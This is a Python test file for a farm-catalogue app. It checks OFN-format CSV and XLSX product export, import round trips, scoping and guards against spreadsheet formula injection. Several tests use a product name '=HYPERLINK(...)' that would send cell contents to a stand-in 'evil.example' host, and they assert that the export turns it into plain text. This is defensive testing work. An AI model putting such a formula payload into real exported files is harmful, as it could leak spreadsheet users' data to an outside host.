"""Catalogue export in the OFN product-list format, and the import ∘ export round trip."""

import csv
import io
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook

from cabas.catalogue.exports import catalogue_csv, catalogue_xlsx
from cabas.catalogue.import_reading import OFN_COLUMNS
from cabas.catalogue.imports import product_import
from cabas.catalogue.models import Category, TaxRate, Variant
from cabas.enterprises.models import Relationship
from tests.factories import (
    EnterpriseFactory,
    HubFactory,
    ProductFactory,
    RelationshipFactory,
    RoleFactory,
    VariantFactory,
)


def catalogue(enterprise):
    """A small but varied catalogue: weights, volumes, items, tax override, on demand, archived."""
    carrots = ProductFactory(producer=enterprise, name="Carottes", description="Sable, « extra »\nlavées",
                             category=Category.objects.get(name="Légumes racines"))
    VariantFactory(product=carrots, name="Botte", sku="CAR-B", unit="kg", quantity=Decimal("1.000"),
                   price=Decimal("2.50"), on_hand=12)
    VariantFactory(product=carrots, name="Vrac", sku="", unit="g", quantity=Decimal("500"),
                   price=Decimal("1.40"), on_hand=0, on_demand=True, position=1)
    VariantFactory(product=carrots, name="Ancienne", sku="OLD", archived_at="2025-01-01T00:00:00Z")
    eggs = ProductFactory(producer=enterprise, name="Œufs", category=Category.objects.get(slug="oeufs"))
    VariantFactory(product=eggs, name="", sku="OEU", unit="item", quantity=6, unit_name="œufs",
                   price=Decimal("3.20"), on_hand=30)
    juice = ProductFactory(producer=enterprise, name="Jus de pomme, trouble",
                           category=Category.objects.get(name="Jus de fruits"))
    VariantFactory(product=juice, name="Bouteille", sku="JUS", unit="l", quantity=Decimal("0.75"),
                   price=Decimal("3.90"), tax_rate=TaxRate.objects.get(rate=Decimal("5.5")), on_hand=7)


def test_it_exports_the_ofn_columns_and_values(enterprise):
    catalogue(enterprise)

    lines = "".join(catalogue_csv(enterprise)).splitlines()

    assert lines == [
        ",".join(OFN_COLUMNS),
        'Ferme des Collines,CAR-B,Carottes,Botte,Légumes racines,"Sable, « extra »',
        'lavées",1,kg,,2.50,12,,0,,',
        'Ferme des Collines,,Carottes,Vrac,Légumes racines,"Sable, « extra »',
        'lavées",500,g,,1.40,0,,1,,',
        'Ferme des Collines,JUS,"Jus de pomme, trouble",Bouteille,Jus de fruits,,0.75,l,,3.90,7,,0,,5.5',
        "Ferme des Collines,OEU,Œufs,,Œufs,,6,,œufs,3.20,30,,0,,",
    ]


def test_it_exports_only_the_enterprises_own_and_granted_producers(enterprise):
    VariantFactory(product__producer=enterprise, sku="MINE")
    VariantFactory(product__producer=EnterpriseFactory(), sku="OTHER")

    text = "".join(catalogue_csv(enterprise))

    assert "MINE" in text and "OTHER" not in text


def test_it_round_trips_csv_export_import_export_into_an_empty_producer(enterprise):
    catalogue(enterprise)
    first = "".join(catalogue_csv(enterprise))
    empty = EnterpriseFactory(name="Ferme Neuve")
    moved = first.replace("Ferme des Collines,", "Ferme Neuve,")

    summary = product_import(enterprise=empty, name="export.csv", data=moved.encode())

    assert (summary.created, summary.updated, summary.unchanged) == (4, 0, 0)
    assert "".join(catalogue_csv(empty)) == moved
    again = product_import(enterprise=empty, name="export.csv", data=moved.encode())
    assert (again.created, again.updated, again.unchanged) == (0, 0, 4)


def test_it_round_trips_a_csv_text_the_export_protected_from_running_as_a_formula(enterprise):
    variant = VariantFactory(product__producer=enterprise, product__name="-5 % sur les courgettes", sku="C5")
    exported = "".join(catalogue_csv(enterprise))
    assert ",'-5 % sur les courgettes," in exported
    empty = EnterpriseFactory(name="Ferme Neuve")
    moved = exported.replace(enterprise.name, empty.name)

    product_import(enterprise=empty, name="export.csv", data=moved.encode())

    assert empty.products.get().name == variant.product.name == "-5 % sur les courgettes"


def rows_of(data: bytes) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    return [tuple(row) for row in workbook.active.iter_rows(values_only=True)]


def test_it_round_trips_xlsx_export_import_export(enterprise):
    catalogue(enterprise)
    first = rows_of(catalogue_xlsx(enterprise))
    assert first[0] == OFN_COLUMNS
    assert first[3][:11] == (
        "Ferme des Collines", "JUS", "Jus de pomme, trouble", "Bouteille", "Jus de fruits", None, 0.75, "l",
        None, 3.9, 7,
    )
    empty = EnterpriseFactory(name="Ferme des Collines", slug="homonyme")  # same name: rows stay identical

    summary = product_import(enterprise=empty, name="export.xlsx", data=catalogue_xlsx(enterprise))

    assert summary.created == 4
    assert rows_of(catalogue_xlsx(empty)) == first


def test_it_streams_the_csv_and_sends_the_xlsx_from_the_products_area(client_for, manager, enterprise):
    catalogue(enterprise)
    client = client_for(manager)

    response = client.get(reverse("catalogue:product_export_csv", args=[enterprise.slug]))

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="produits-ferme-des-collines-' in response["Content-Disposition"]
    assert b"".join(response.streaming_content).decode() == "".join(catalogue_csv(enterprise))

    response = client.get(reverse("catalogue:product_export_xlsx", args=[enterprise.slug]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert len(rows_of(response.content)) == 5


def test_it_exports_in_a_constant_number_of_queries(client_for, manager, enterprise,
                                                      django_assert_max_num_queries):
    for i in range(30):
        VariantFactory(product__producer=enterprise, sku=f"S{i}")
    client = client_for(manager)

    with django_assert_max_num_queries(8):
        response = client.get(reverse("catalogue:product_export_csv", args=[enterprise.slug]))
        body = b"".join(response.streaming_content)

    assert body.count(b"\r\n") == 31


def test_it_exports_a_product_named_like_a_formula_as_text_never_a_formula(client_for, enterprise):
    hub = HubFactory(name="Épicerie du Marché", slug="epicerie")
    RelationshipFactory(grantor=enterprise, grantee=hub, manage_products=True,
                        status=Relationship.Status.ACCEPTED)
    name = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    VariantFactory(product__producer=enterprise, product__name=name, product__description="+33 cmd",
                   sku="EVIL")
    client = client_for(RoleFactory(enterprise=hub, role="manager").user)

    response = client.get(reverse("catalogue:product_export_xlsx", args=[hub.slug]))

    sheet = load_workbook(io.BytesIO(response.content)).active  # not read-only: it keeps the cell types
    header = [cell.value for cell in sheet[1]]
    name_cell = sheet.cell(row=2, column=header.index("name") + 1)
    description_cell = sheet.cell(row=2, column=header.index("description") + 1)
    assert (name_cell.data_type, name_cell.value) == ("s", name)
    assert (description_cell.data_type, description_cell.value) == ("s", "+33 cmd")
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]

    response = client.get(reverse("catalogue:product_export_csv", args=[hub.slug]))

    row = next(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row["name"] == "'" + name  # a leading apostrophe: spreadsheets show the text, never run it
    assert row["description"] == "'+33 cmd"


def test_it_round_trips_a_name_starting_like_a_formula_through_xlsx_unchanged(enterprise):
    VariantFactory(product__producer=enterprise, product__name="-5 % sur les courgettes",
                   product__description='=HYPERLINK("http://evil.example")', sku="PROMO")
    homonym = EnterpriseFactory(name="Ferme des Collines", slug="homonyme")

    product_import(enterprise=homonym, name="export.xlsx", data=catalogue_xlsx(enterprise))

    product = Variant.objects.get(product__producer=homonym).product
    assert (product.name, product.description) == ("-5 % sur les courgettes", '=HYPERLINK("http://evil.example")')
